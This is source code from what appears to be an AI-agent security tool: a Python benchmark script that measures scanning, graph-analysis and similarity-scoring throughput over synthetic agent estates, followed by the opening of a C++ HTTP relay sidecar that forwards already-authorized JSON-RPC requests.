    verbs = ["search", "run", "send", "query", "write", "read", "delete", "fetch"]
    objects = [
        "the web index", "shell commands", "email attachments", "database rows",
        "source files", "environment variables", "webhook payloads", "user records",
    ]
    texts = [
        f"tool_{i} {verbs[i % len(verbs)]} {objects[(i * 7) % len(objects)]} batch {i % 97}"
        for i in range(n_texts)
    ]
    before = dict(dispatch_counts())
    t0 = time.perf_counter()
    queries = embed_texts(texts)
    t_cold = time.perf_counter() - t0
    t0 = time.perf_counter()
    embed_texts(texts)
    t_warm = time.perf_counter() - t0

    patterns = enforcement._pattern_embeddings()
    q, d = queries.shape
    p = patterns.shape[0]
    best = None
    affinity = None
    for _ in range(n_runs):
        t0 = time.perf_counter()
        affinity = cosine_affinity(queries, patterns)
        elapsed = time.perf_counter() - t0
        if best is None or elapsed < best:
            best = elapsed
    after = dispatch_counts()
    sim_counters = {
        k: after.get(k, 0) - before.get(k, 0)
        for k in after
        if k.startswith("similarity:") and after.get(k, 0) > before.get(k, 0)
    }
    sim_decisions = [x for x in dispatch_ledger.decisions() if x.family == "similarity"]
    return {
        "texts": n_texts,
        "embed_cold_texts_per_sec": round(n_texts / t_cold, 1) if t_cold > 0 else 0.0,
        "embed_warm_texts_per_sec": round(n_texts / t_warm, 1) if t_warm > 0 else 0.0,
        "embed_cache_speedup": round(t_cold / t_warm, 1) if t_warm > 0 else None,
        "affinity_s": round(best or 0.0, 4),
        "affinity_gflops": round(2.0 * q * p * d / best / 1e9, 2) if best else 0.0,
        "geometry": {"q": q, "p": p, "d": d},
        "corpus": enforcement.corpus_geometry(),
        "dispatch_rung": sim_decisions[-1].chosen if sim_decisions else None,
        "similarity_dispatch": sim_counters,
        "max_archetype_score": round(float(affinity.max()), 4) if affinity is not None else None,
    }


def _tier_100k() -> dict:
    """Out-of-core 100k-agent tier: streaming report→CSR build into an
    on-disk store, then fusion/reach/rollup off the store-backed lazy
    view — the estate never materializes as one in-RAM graph.

    Runs in its own process (``bench.py --tier-100k``, spawned by the
    parent when AGENT_BOM_BENCH_100K=1) so peak RSS is an honest
    measurement, not the parent's 10k-tier high-water mark. The hard
    memory ceiling (default ≤2× the 10k tier's recorded peak) is part
    of the emitted JSON and gated by scripts/check_bench_regression.py.
    """
    import itertools
    import shutil
    import tempfile

    from generate_estate import crown_jewel_plan, generate_agents

    from agent_bom_trn import config
    from agent_bom_trn.api.graph_store import SQLiteGraphStore
    from agent_bom_trn.engine.telemetry import dispatch_counts, reset_dispatch_counts
    from agent_bom_trn.graph.attack_path_fusion import apply_attack_path_fusion
    from agent_bom_trn.graph.builder import _node_id
    from agent_bom_trn.graph.container import UnifiedEdge, UnifiedNode
    from agent_bom_trn.graph.dependency_reach import compute_dependency_reach
    from agent_bom_trn.graph.rollup import compute_rollup
    from agent_bom_trn.graph.store_graph import StoreBackedUnifiedGraph
    from agent_bom_trn.graph.stream_builder import StreamingGraphBuilder
    from agent_bom_trn.graph.types import EntityType, RelationshipType
    from agent_bom_trn.inventory import agents_from_inventory
    from agent_bom_trn.obs import mem as obs_mem
    from agent_bom_trn.scanners.advisories import DemoAdvisorySource
    from agent_bom_trn.scanners.package_scan import scan_agents_sync

    n_agents = int(os.environ.get("AGENT_BOM_BENCH_100K_AGENTS", "100000"))
    chunk_agents = int(os.environ.get("AGENT_BOM_BENCH_100K_CHUNK", "5000"))
    ceiling_mb = float(os.environ.get("AGENT_BOM_BENCH_100K_CEILING_MB", "1480"))
    plan = crown_jewel_plan(n_agents)
    # The jewel/gateway layer references servers by NAME; server node ids
    # embed canonical-id hashes, so the label→id pairs the plan needs are
    # harvested during the chunk walk — never a full label map.
    needed = {name for _, writers in plan["jewels"] for name in writers}
    for hub, target in plan["gateway_edges"]:
        needed.add(hub)
        needed.add(target)

    workdir = Path(tempfile.mkdtemp(prefix="bench_100k_"))
    reset_dispatch_counts()
    # Tier-local host calibration: the tier subprocess runs minutes after
    # the parent's reference and host speed drifts within a round, so the
    # gate prefers this measurement for the tier's stage ceilings.
    tier_calib_s = _host_calib()
    obs_mem.start_watermark()
    t_wall = time.perf_counter()
    try:
        store = SQLiteGraphStore(workdir / "estate.db")
        builder = StreamingGraphBuilder(
            store, scan_id="bench-100k", chunk_nodes=config.GRAPH_CHUNK_NODES
        )
        source = DemoAdvisorySource()
        harvested: dict[str, str] = {}
        # Tool-text sample for the tier's similarity stage: harvested
        # during the chunk walk (the agents are deleted per chunk) and
        # capped so the stage measures throughput, not the whole estate.
        sim_cap = int(os.environ.get("AGENT_BOM_BENCH_100K_SIM_TEXTS", "20000"))
        sim_texts: list[str] = []
        chunk_rss: list[float] = []
        t_scan = t_build = 0.0
        n_chunks = 0
        stream = generate_agents(n_agents)
        while True:
            chunk_docs = list(itertools.islice(stream, chunk_agents))
            if not chunk_docs:
                break
            n_chunks += 1
            agents = agents_from_inventory({"agents": chunk_docs})
            del chunk_docs
            t0 = time.perf_counter()
            radii = scan_agents_sync(agents, source, max_hop_depth=2)
            t_scan += time.perf_counter() - t0
            t0 = time.perf_counter()
            builder.add_blast_radii(radii)
            builder.add_agents(agents)
            t_build += time.perf_counter() - t0
            for agent in agents:
                for server in agent.mcp_servers:
                    if server.name in needed:
                        harvested[server.name] = _node_id(
                            "server", server.canonical_id or server.name or ""
                        )
                    if len(sim_texts) < sim_cap:
                        for tool in server.tools:
                            sim_texts.append(f"{tool.name} {tool.description or ''}")
            del radii, agents
            chunk_rss.append(round(obs_mem.current_rss_mb(), 1))

        # Crown jewels ride the builder's public add surface, resolved
        # through the harvested label→id pairs.
        t0 = time.perf_counter()
        for hub, target in plan["gateway_edges"]:
            hid, tid = harvested.get(hub), harvested.get(target)
            if hid is not None and tid is not None:
                builder.add_edge(
                    UnifiedEdge(source=hid, target=tid, relationship=RelationshipType.CAN_ACCESS)
                )
        for jewel_id, writers in plan["jewels"]:
            builder.add_node(
                UnifiedNode(
                    id=f"datastore:{jewel_id}",
                    entity_type=EntityType.DATA_STORE,
                    label=jewel_id,
                    attributes={
                        "data_sensitivity": "pii",
                        "data_classification_tier": "restricted",
                    },
                )
            )
            for server_name in writers:
                sid = harvested.get(server_name)
                if sid is not None:
                    builder.add_edge(
                        UnifiedEdge(
                            source=sid,
                            target=f"datastore:{jewel_id}",
                            relationship=RelationshipType.STORES,
                        )
                    )
        summary = builder.finalize()
        t_build += time.perf_counter() - t0

        # The builder's intern/edge-seen tables are ~x00 MB at this
        # scale; the analysis stages below must not coexist with them
        # or the tier pays for both sides of the handoff at peak.
        snapshot_id = builder.snapshot_id
        del builder, harvested, plan, needed
        import gc

        gc.collect()

        t0 = time.perf_counter()
        graph = StoreBackedUnifiedGraph(store, snapshot_id=snapshot_id)
        graph.compiled  # noqa: B018 — metadata-only CSR build, timed as its own stage
        t_compile = time.perf_counter() - t0
        t0 = time.perf_counter()
        fusion = apply_attack_path_fusion(graph)
        t_fusion = time.perf_counter() - t0
        t0 = time.perf_counter()
        reach = compute_dependency_reach(graph)
        t_reach = time.perf_counter() - t0
        t0 = time.perf_counter()
        rollup = compute_rollup(graph)
        t_rollup = time.perf_counter() - t0

        # Similarity stage (PR 17): score the harvested tool-text sample
        # against the full paraphrase-banked risk corpus through the
        # dispatch ladder — the out-of-core tier's version of the estate
        # risk scan, with the embed cache cold (fresh subprocess).
        from agent_bom_trn import enforcement
        from agent_bom_trn.engine.similarity import cosine_affinity, embed_texts
        from agent_bom_trn.obs import dispatch_ledger

        t0 = time.perf_counter()
        sim_queries = embed_texts(sim_texts[:sim_cap])
        t_sim_embed = time.perf_counter() - t0
        t0 = time.perf_counter()
        sim_affinity = cosine_affinity(sim_queries, enforcement._pattern_embeddings())
        t_sim_affinity = time.perf_counter() - t0
        t_similarity = t_sim_embed + t_sim_affinity
        sim_decisions = [x for x in dispatch_ledger.decisions() if x.family == "similarity"]

        elapsed = time.perf_counter() - t_wall
        watermark = obs_mem.stop_watermark() or {}
        peak_rss_mb = max(watermark.get("peak_rss_mb", 0.0), obs_mem.getrusage_peak_mb())
        counts = dispatch_counts()
        stages = {
            "scan": t_scan,
            "graph_build": t_build,
            "compile": t_compile,
            "fusion": t_fusion,
            "reach": t_reach,
            "rollup": t_rollup,
            "similarity": t_similarity,
        }
        return {
            "agents": n_agents,
            "chunk_agents": chunk_agents,
            "host_calib_s": round(tier_calib_s, 4),
            "chunks_scanned": n_chunks,
            "build_chunks": summary["chunks"],
            "nodes": summary["nodes"],
            "edges": summary["edges"],
            "csr_rows": summary["csr_rows"],
            "fused_paths": fusion.get("fused_path_count"),
            "fusion": {
                "fused_paths": fusion.get("fused_path_count"),
                "campaigns": fusion.get("campaign_count"),
                "ranked_paths_per_sec": round(
                    fusion.get("fused_path_count", 0) / t_fusion, 2
                ) if t_fusion > 0 else None,
                "fusion_s": round(t_fusion, 3),
                "status": (fusion.get("status") or {}).get("status"),
                "reason_codes": (fusion.get("status") or {}).get("reason_codes"),
                "maxplus_dispatch": {
                    k.partition(":")[2]: n for k, n in sorted(counts.items())
                    if k.startswith("maxplus:")
                },
            },
            "reach_packages": len(reach.packages),
            "reach_vulnerabilities": len(reach.vulnerabilities),
            "rollup_nodes": len(rollup),
            "similarity": {
                "texts": len(sim_texts[:sim_cap]),
                "geometry": {
                    "q": int(sim_queries.shape[0]),
                    "p": int(sim_affinity.shape[1]),
                    "d": int(sim_queries.shape[1]),
                },
                "embed_texts_per_sec": round(
                    len(sim_texts[:sim_cap]) / t_sim_embed, 1
                ) if t_sim_embed > 0 else 0.0,
                "affinity_gflops": round(
                    2.0 * sim_queries.shape[0] * sim_affinity.shape[1]
                    * sim_queries.shape[1] / t_sim_affinity / 1e9, 2
                ) if t_sim_affinity > 0 else 0.0,
                "corpus": enforcement.corpus_geometry(),
                "dispatch_rung": sim_decisions[-1].chosen if sim_decisions else None,
            },
            "stages_s": {k: round(v, 3) for k, v in stages.items()},
            "elapsed_s": round(elapsed, 3),
            "peak_rss_mb": round(peak_rss_mb, 1),
            "memory_ceiling_mb": ceiling_mb,
            "ceiling_ok": peak_rss_mb <= ceiling_mb,
            "chunk_rss_mb": chunk_rss,
            "rss_kb_per_agent": round(peak_rss_mb * 1024.0 / n_agents, 2),
            "store_mb": round((workdir / "estate.db").stat().st_size / 1e6, 1),
            "counters": {
                k: v
                for k, v in sorted(counts.items())
                if k.startswith(("graph_build:", "graph_cache:", "plan:", "maxplus:", "similarity:"))
            },
        }
    finally:
        shutil.rmtree(workdir, ignore_errors=True)


def _tier_100k_main() -> int:
    """Child entry for ``bench.py --tier-100k``: one JSON line on stdout."""
    real_out = sys.stdout
    sys.stdout = sys.stderr
    result = _tier_100k()
    print(json.dumps(result), file=real_out)
    return 0


def _spawn_tier_100k() -> dict:
    """Run the 100k tier in a fresh subprocess for honest RSS accounting."""
    import subprocess

    timeout_s = float(os.environ.get("AGENT_BOM_BENCH_100K_TIMEOUT_S", "3600"))
    proc = subprocess.run(
        [sys.executable, str(REPO / "bench.py"), "--tier-100k"],
        capture_output=True,
        text=True,
        timeout=timeout_s,
        cwd=str(REPO),
    )
    if proc.returncode != 0:
        return {
            "error": f"tier-100k subprocess exited {proc.returncode}",
            "stderr_tail": proc.stderr[-2000:],
        }
    try:
        return json.loads(proc.stdout.strip().splitlines()[-1])
    except (ValueError, IndexError):
        return {"error": "tier-100k subprocess produced no JSON", "stdout_tail": proc.stdout[-500:]}


def _dispatch_block(best_run: dict) -> dict:
    """Assemble the bench ``dispatch`` block from the best run's ledger
    capture: summary, decisions, calibration audit, counterfactual."""
    from agent_bom_trn import config
    from agent_bom_trn.obs import calibration

    decisions = best_run["ledger_decisions"]
    cal = calibration.audit(decisions)
    return {
        "shadow_rate": config.DISPATCH_SHADOW_RATE,
        "summary": best_run["ledger_summary"],
        "calibration": cal,
        "time_lost": calibration.time_lost_to_declines(decisions, cal),
        "decisions": decisions,
    }


def main() -> int:
    # stdout discipline: the contract is ONE JSON line on stdout. Library
    # chatter (JAX/XLA "Platform ... is experimental" warnings print to
    # stdout) would corrupt captured output, so everything printed during
    # the run is routed to stderr and only the final JSON uses the real
    # stdout.
    if "--tier-100k" in sys.argv:
        return _tier_100k_main()

    real_out = sys.stdout
    sys.stdout = sys.stderr

    # Shadow-price sampled declines by default in the bench (off in
    # production: config default 0.0): declined device rungs keep
    # producing measured rates so the calibration audit has evidence.
    # Must be set before any agent_bom_trn import (config reads env at
    # import time); an explicit operator setting wins.
    os.environ.setdefault("AGENT_BOM_DISPATCH_SHADOW_RATE", "0.02")

    from generate_estate import generate_estate

    from agent_bom_trn import config
    from agent_bom_trn.engine.backend import backend_name
    from agent_bom_trn.inventory import agents_from_inventory
    from agent_bom_trn.obs import mem as obs_mem
    from agent_bom_trn.obs import profiler as obs_profiler
    from agent_bom_trn.obs import trace as obs_trace
    from agent_bom_trn.obs.export import spans_summary, write_chrome_trace
    from agent_bom_trn.scanners.advisories import DemoAdvisorySource
    from agent_bom_trn.scanners.package_scan import scan_agents_sync

    trace_path = os.environ.get("AGENT_BOM_BENCH_TRACE")
    profile_path = os.environ.get("AGENT_BOM_BENCH_PROFILE")
    for i, arg in enumerate(sys.argv):
        if arg == "--trace" and i + 1 < len(sys.argv):
            trace_path = sys.argv[i + 1]
        elif arg.startswith("--trace="):
            trace_path = arg.split("=", 1)[1]
        elif arg == "--profile" and i + 1 < len(sys.argv):
            profile_path = sys.argv[i + 1]
        elif arg.startswith("--profile="):
            profile_path = arg.split("=", 1)[1]
    if config.OBS_PROFILE_ENABLED and not profile_path:
        # AGENT_BOM_PROFILE=1 with no explicit path: still capture, to a
        # conventional artifact next to the bench JSON round files.
        profile_path = "bench_profile.speedscope.json"
    if trace_path or profile_path:
        # The profiler attributes samples via span chains, so a profiled
        # run implies tracing even without --trace.
        obs_trace.enable()

    n_agents = int(os.environ.get("AGENT_BOM_BENCH_AGENTS", "10000"))
    # Best-of-N (default 3): single-run swings of ±20% on the big stages
    # were masquerading as progress/regression across rounds, so every
    # stage reports its best plus the observed min–max spread. Engine
    # cost-model EWMA rates deliberately persist across runs (warm runs
    # show the steady-state dispatch mix the daemon would reach).
    n_runs = max(int(os.environ.get("AGENT_BOM_BENCH_RUNS", "3")), 1)
    estate = generate_estate(n_agents)
    agents = agents_from_inventory(estate)
    n_packages = sum(len(s.packages) for a in agents for s in a.mcp_servers)
    source = DemoAdvisorySource()

    # Warmup: compile caches + advisory index on a small slice.
    scan_agents_sync(agents[:50], source, max_hop_depth=2)
    host_calib_s = _host_calib()

    from agent_bom_trn.obs.trace import span as _span

    # Resource window covering the measured runs: the RSS watermark
    # poller catches transient peaks between the per-stage point reads,
    # and getrusage's lifetime high-water mark rides along as the floor.
    obs_mem.start_watermark()
    profiling = bool(profile_path) and obs_profiler.start()
    runs = []
    for i in range(n_runs):
        with _span("bench:pipeline", attrs={"run": i, "agents": n_agents}):
            runs.append(_run_pipeline(agents, source, n_agents))
    profile = obs_profiler.stop() if profiling else None
    watermark = obs_mem.stop_watermark() or {}
    peak_rss_mb = max(watermark.get("peak_rss_mb", 0.0), obs_mem.getrusage_peak_mb())
    best = min(runs, key=lambda r: r["total"])

    total = best["total"]
    n_paths = best["n_paths"]
    paths_per_sec = n_paths / total if total > 0 else 0.0
    best_scan = min(r["stages"]["scan"] for r in runs)
    pkgs_per_sec = n_packages / best_scan if best_scan > 0 else 0.0

    baseline: dict = {}
    baseline_file = REPO / "BASELINE_MEASURED.json"
    if baseline_file.is_file():
        measured = json.loads(baseline_file.read_text())
        # Prefer the tier matching this run — rates are scale-dependent
        # (the measured file shows the reference slowing with estate
        # size), so only a matched tier is a fair denominator. Fall back
        # to the largest measured tier, flagged via tier_matched=false.
        tiers = measured.get("tiers", {})
        if str(n_agents) in tiers:
            baseline = tiers[str(n_agents)]
        elif tiers:
            baseline = tiers[max(tiers, key=int)]

    ref_paths_rate = baseline.get("exposure_paths_per_sec") or 0.0
    ref_pkgs_rate = baseline.get("packages_per_sec") or 0.0
    result = {
        "metric": "exposure_paths_per_sec",
        "value": round(paths_per_sec, 2),
        "unit": "paths/s",
        "vs_baseline": round(paths_per_sec / ref_paths_rate, 2) if ref_paths_rate else None,
        "secondary": {
            "metric": "packages_scanned_per_sec",
            "value": round(pkgs_per_sec, 1),
            "unit": "packages/s",
            "vs_baseline": round(pkgs_per_sec / ref_pkgs_rate, 2) if ref_pkgs_rate else None,
            "vs_baseline_match_core": (
                round(pkgs_per_sec / baseline["match_core_packages_per_sec"], 2)
                if baseline.get("match_core_packages_per_sec")
                else None
            ),
        },
        "n_paths": n_paths,
        "elapsed_s": round(total, 3),
        "bench_runs": n_runs,
        # Pinned host-speed reference (_host_calib): the regression gate
        # scales stage-second ceilings by the round-to-round calibration
        # ratio instead of trusting raw wall seconds across host drift.
        "host_calib_s": round(host_calib_s, 4),
        # Per-stage best across runs; spread shows run-to-run variance so
        # a ±20% swing reads as noise, not progress.
        "stages_s": {
            stage: round(min(r["stages"][stage] for r in runs), 3)
            for stage in best["stages"]
        },
        "stages_spread_s": {
            stage: [
                round(min(r["stages"][stage] for r in runs), 3),
                round(max(r["stages"][stage] for r in runs), 3),
            ]
            for stage in best["stages"]
        },
        # Memory envelope (ROADMAP item 1's ceiling field): process peak
        # RSS across the measured runs (watermark poller ∨ getrusage
        # high-water mark) and the best run's per-stage RSS deltas. The
        # first run's allocations dominate the deltas (warm runs reuse
        # pools), so per-stage numbers come from the FIRST run — the
        # cold-start envelope a capacity planner actually sizes for.
        "peak_rss_mb": round(peak_rss_mb, 1),
        "mem": {
            "peak_rss_mb": round(peak_rss_mb, 1),
            "end_rss_mb": round(obs_mem.current_rss_mb(), 1),
            "getrusage_peak_mb": round(obs_mem.getrusage_peak_mb(), 1),
            "watermark": watermark,
            "stage_mem_delta_mb": runs[0]["stage_mem_delta_mb"],
            "device_resident_mb": round(
                best["gauges"].get("bitpack:resident_bytes", 0.0) / (1024.0 * 1024.0), 2
            ),
        },
        "estate": {
            "agents": len(agents),
            "packages": n_packages,
            "graph_nodes": best["graph_nodes"],
            "graph_edges": best["graph_edges"],
            "fused_paths": best["fused_paths"],
        },
        # Fusion block from the best run (PR 16): k-best emission volume,
        # campaign ranking throughput, and the maxplus dispatch mix.
        "fusion": best["fusion"],
        # Side benchmark, not a pipeline stage: taint-flow SAST files/s.
        "sast": _bench_sast(n_runs),
        # Side benchmark (PR 17): embed-cache texts/s + cosine-affinity
        # GFLOP/s against the paraphrase-banked risk corpus, with the
        # similarity dispatch rung the ladder chose.
        "similarity": _bench_similarity(n_runs),
        "engine_backend": backend_name(),
        "engine_dispatch": best["dispatch"],
        "engine_stages": best["engine_stages"],
        # Measured device contribution (per-kernel wall + achieved FLOPs
        # + MFU against config.ENGINE_DEVICE_PEAK_FLOPS), from the best run.
        "engine_device": best["device_kernels"],
        # Last-value engine gauges from the best run (bitpack lane
        # occupancy, device-resident adjacency bytes).
        "engine_gauges": best["gauges"],
        # Dispatch observatory (best run): ledger roll-up, every decision
        # with its evidence (geometry, per-rung predicted costs, taxonomy
        # decline reasons, shadow outcomes), the live calibration audit,
        # and the counterfactual cost of mispriced declines. Replayable
        # offline: scripts/dispatch_audit.py re-audits this block.
        "dispatch": _dispatch_block(best),
        # Resilience accounting from the best run: retries/faults/breaker
        # transitions, final per-endpoint breaker states, and how many
        # stage failures the run survived (nonzero only under chaos).
        "resilience": best["resilience"],
        "breakers": best["breakers"],
        "degradation_count": best["degradation_count"],
        "baseline_source": (
            {
                "file": "BASELINE_MEASURED.json",
                "tier_agents": baseline.get("n_agents"),
                "tier_matched": baseline.get("n_agents") == n_agents,
                "reference_paths_per_sec": ref_paths_rate,
                "reference_packages_per_sec": ref_pkgs_rate,
                "reference_match_core_packages_per_sec": baseline.get(
                    "match_core_packages_per_sec"
                ),
            }
            if baseline
            else "missing — run scripts/measure_reference_baseline.py"
        ),
    }
    if os.environ.get("AGENT_BOM_BENCH_100K") == "1":
        # Out-of-core 100k tier in its own process (honest peak RSS);
        # opt-in — it adds minutes to the round.
        sys.stderr.write("tier-100k: spawning out-of-core subprocess...\n")
        result["tier_100k"] = _spawn_tier_100k()
    if trace_path:
        spans = obs_trace.completed_spans()
        n_events = write_chrome_trace(trace_path, spans)
        result["trace"] = {
            "path": trace_path,
            "span_count": n_events,
            "spans_summary": spans_summary(spans),
        }
        sys.stderr.write(f"trace: wrote {n_events} span(s) to {trace_path}\n")
    if profile is not None:
        result["profile"] = obs_profiler.write_profile(
            profile_path, profile, name=f"bench:pipeline ({n_agents} agents)"
        )
        sys.stderr.write(
            f"profile: {profile.samples} sample(s) @ {profile.hz:g} Hz -> "
            f"{profile_path} (+.folded)\n"
        )
    print(json.dumps(result), file=real_out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
