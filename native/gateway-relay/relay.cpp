// agent-bom gateway-relay — C++ HTTP forwarder sidecar.
//
// Contract parity with the reference's Go sidecar (reference:
// runtime/gateway-relay/README.md:1-25, internal/relay/{forward,server,
// types}.go): the gateway delegates its hot forwarding path here once the
// Python relay trips the Go-gate SLO (p95 ≤ 50 ms, RSS ≤ 512 MB, err ≤ 1%
// @ 500 concurrent; reference docs/perf/gateway-relay-latency.md:40-50).
//
//   POST /v1/forward
//     Authorization: Bearer <token>        (required when RELAY_TOKEN set)
//     X-Upstream-Url: http://host:port/p   (already-authorized target)
//     <raw JSON-RPC body, ≤ 2 MiB>
//   → relays the upstream's status + body verbatim.
//   GET /healthz → {"status":"ok"}
//
// Policy/auth/audit intentionally stay in the Python gateway — this
// sidecar only forwards already-authorized requests (ADR-009 Phase 3).
//
// Build: make        (g++ -O2 -pthread, no external deps)

#include <arpa/inet.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <condition_variable>
#include <cstring>
#include <deque>
#include <iostream>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

namespace {

constexpr size_t kMaxBody = 2 * 1024 * 1024;  // 2 MiB cap (proxy.py:78 parity)
constexpr int kUpstreamTimeoutSec = 30;
constexpr int kWorkers = 64;

std::string g_token;  // bearer token; empty = no auth (loopback deployments)

// Constant-time string equality: always scans the full supplied value so
// the comparison time leaks nothing about where a mismatch occurs.
bool ct_equal(const std::string& a, const std::string& b) {
  unsigned char diff = a.size() == b.size() ? 0 : 1;
  for (size_t i = 0; i < a.size(); ++i) {
    diff |= static_cast<unsigned char>(a[i]) ^
            static_cast<unsigned char>(b[i % (b.empty() ? 1 : b.size())]);
  }
  return diff == 0;
}
std::atomic<uint64_t> g_requests{0}, g_errors{0};

void set_timeout(int fd, int seconds) {
  timeval tv{seconds, 0};
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
}

bool send_all(int fd, const char* data, size_t len) {
  size_t sent = 0;
  while (sent < len) {
    ssize_t n = send(fd, data + sent, len - sent, MSG_NOSIGNAL);
    if (n <= 0) return false;
    sent += static_cast<size_t>(n);
  }
  return true;
}

void respond(int fd, int status, const std::string& reason, const std::string& body,
             const std::string& ctype = "application/json") {
  std::string head = "HTTP/1.1 " + std::to_string(status) + " " + reason +
                     "\r\nContent-Type: " + ctype +
                     "\r\nContent-Length: " + std::to_string(body.size()) +
                     "\r\nConnection: close\r\n\r\n";
  send_all(fd, head.data(), head.size());
  send_all(fd, body.data(), body.size());
}

// Read an HTTP/1.1 request: request line + headers + Content-Length body.
struct Request {
  std::string method, path, body;
  std::string upstream_url, auth;
  bool ok = false;
  bool too_large = false;
};

std::string lower(std::string s) {
  for (auto& c : s) c = static_cast<char>(tolower(c));
  return s;
}

Request read_request(int fd) {
  Request req;
  std::string buf;
  buf.reserve(8192);
  char chunk[8192];
  size_t header_end = std::string::npos;
  while (header_end == std::string::npos) {
    ssize_t n = recv(fd, chunk, sizeof(chunk), 0);
    if (n <= 0) return req;
    buf.append(chunk, static_cast<size_t>(n));
    header_end = buf.find("\r\n\r\n");
    if (buf.size() > 64 * 1024 && header_end == std::string::npos) return req;
  }
  // Request line
  size_t line_end = buf.find("\r\n");
  std::string request_line = buf.substr(0, line_end);
  size_t sp1 = request_line.find(' ');
  size_t sp2 = request_line.find(' ', sp1 + 1);
  if (sp1 == std::string::npos || sp2 == std::string::npos) return req;
  req.method = request_line.substr(0, sp1);
  req.path = request_line.substr(sp1 + 1, sp2 - sp1 - 1);
  // Headers
  size_t content_length = 0;
  size_t pos = line_end + 2;
  while (pos < header_end) {
    size_t eol = buf.find("\r\n", pos);
    std::string line = buf.substr(pos, eol - pos);
    pos = eol + 2;
    size_t colon = line.find(':');
    if (colon == std::string::npos) continue;
    std::string key = lower(line.substr(0, colon));
    std::string value = line.substr(colon + 1);
    while (!value.empty() && value.front() == ' ') value.erase(0, 1);
    if (key == "content-length") content_length = static_cast<size_t>(atoll(value.c_str()));
    else if (key == "x-upstream-url") req.upstream_url = value;
    else if (key == "authorization") req.auth = value;
  }
  if (content_length > kMaxBody) {
    req.too_large = true;
    return req;
  }
  size_t body_start = header_end + 4;
  req.body = buf.substr(body_start);
  while (req.body.size() < content_length) {
    ssize_t n = recv(fd, chunk, sizeof(chunk), 0);
    if (n <= 0) return req;
    req.body.append(chunk, static_cast<size_t>(n));
    if (req.body.size() > kMaxBody) {
      req.too_large = true;
      return req;
    }
  }
  req.body.resize(content_length);
  req.ok = true;
  return req;
}

// Parse http://host[:port]/path → (host, port, path). No TLS: the relay
// sits on the trusted segment between gateway and upstreams.
bool parse_url(const std::string& url, std::string& host, int& port, std::string& path) {
  const std::string prefix = "http://";
  if (url.compare(0, prefix.size(), prefix) != 0) return false;
  size_t host_start = prefix.size();
  size_t path_start = url.find('/', host_start);
  std::string hostport =
      url.substr(host_start, path_start == std::string::npos ? std::string::npos
                                                             : path_start - host_start);
  path = path_start == std::string::npos ? "/" : url.substr(path_start);
  size_t colon = hostport.rfind(':');
  if (colon != std::string::npos) {
    host = hostport.substr(0, colon);
    port = atoi(hostport.c_str() + colon + 1);
  } else {
    host = hostport;
    port = 80;
  }
  return !host.empty() && port > 0;
}

// Forward body to upstream; relay status + response body verbatim.
void forward(int client_fd, const Request& req) {
  std::string host, path;
  int port;
  if (!parse_url(req.upstream_url, host, port, path)) {
    g_errors++;
    respond(client_fd, 400, "Bad Request", R"({"error":"invalid or missing X-Upstream-Url"})");
    return;
  }
  addrinfo hints{};
  hints.ai_family = AF_UNSPEC;
  hints.ai_socktype = SOCK_STREAM;
  addrinfo* res = nullptr;
  if (getaddrinfo(host.c_str(), std::to_string(port).c_str(), &hints, &res) != 0 || !res) {
    g_errors++;
    respond(client_fd, 502, "Bad Gateway", R"({"error":"upstream DNS resolution failed"})");
    return;
  }
  int up = socket(res->ai_family, res->ai_socktype, res->ai_protocol);
  set_timeout(up, kUpstreamTimeoutSec);
  int one = 1;
  setsockopt(up, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
  if (connect(up, res->ai_addr, res->ai_addrlen) != 0) {
    freeaddrinfo(res);
    close(up);
    g_errors++;
    respond(client_fd, 502, "Bad Gateway", R"({"error":"upstream connect failed"})");
    return;
  }
  freeaddrinfo(res);
  std::string out = "POST " + path + " HTTP/1.1\r\nHost: " + host +
                    "\r\nContent-Type: application/json\r\nContent-Length: " +
                    std::to_string(req.body.size()) + "\r\nConnection: close\r\n\r\n" + req.body;
  if (!send_all(up, out.data(), out.size())) {
    close(up);
    g_errors++;
    respond(client_fd, 502, "Bad Gateway", R"({"error":"upstream send failed"})");
    return;
  }
  // Read full upstream response (Connection: close ⇒ read to EOF, capped).
  std::string upstream_response;
  char chunk[16384];
  ssize_t n;
  bool truncated = false;
  while ((n = recv(up, chunk, sizeof(chunk), 0)) > 0) {
    upstream_response.append(chunk, static_cast<size_t>(n));
    if (upstream_response.size() > kMaxBody + 64 * 1024) {
      truncated = true;
      break;
    }
  }
  close(up);
  if (truncated) {
    // A partial relay would contradict the upstream's Content-Length and
    // surface as a confusing short read at the gateway — fail cleanly.
    g_errors++;
    respond(client_fd, 502, "Bad Gateway",
            R"({"error":"upstream response exceeds 2MiB relay cap"})");
    return;
  }
  if (upstream_response.empty()) {
    g_errors++;
    respond(client_fd, 502, "Bad Gateway", R"({"error":"empty upstream response"})");
    return;
  }
  // Relay verbatim but force Connection: close semantics (we already read EOF).
  send_all(client_fd, upstream_response.data(), upstream_response.size());
}

void handle(int fd) {
  set_timeout(fd, 15);
  Request req = read_request(fd);
  if (req.too_large) {
    respond(fd, 413, "Payload Too Large", R"({"error":"body exceeds 2MiB cap"})");
    close(fd);
    return;
  }
  if (!req.ok) {
    close(fd);
    return;
  }
  g_requests++;
  if (req.method == "GET" && req.path == "/healthz") {
    respond(fd, 200, "OK",
            "{\"status\":\"ok\",\"requests\":" + std::to_string(g_requests.load()) +
                ",\"errors\":" + std::to_string(g_errors.load()) + "}");
  } else if (req.method == "POST" && req.path == "/v1/forward") {
    if (!g_token.empty() && !ct_equal(req.auth, "Bearer " + g_token)) {
      respond(fd, 401, "Unauthorized", R"({"error":"invalid bearer token"})");
    } else {
      forward(fd, req);
    }
  } else {
    respond(fd, 404, "Not Found", R"({"error":"not found"})");
  }
  close(fd);
}

// Bounded work queue + fixed worker pool. Sidecar lifecycle is
// process-level (SIGTERM/SIGKILL from the supervisor); there is no
// graceful in-process shutdown path.
std::deque<int> g_queue;
std::mutex g_mu;
std::condition_variable g_cv;

void worker() {
  for (;;) {
    int fd;
    {
      std::unique_lock<std::mutex> lock(g_mu);
      g_cv.wait(lock, [] { return !g_queue.empty(); });
      fd = g_queue.front();
      g_queue.pop_front();
    }
    handle(fd);
  }
}

}  // namespace

int main(int argc, char** argv) {
  int port = 8871;
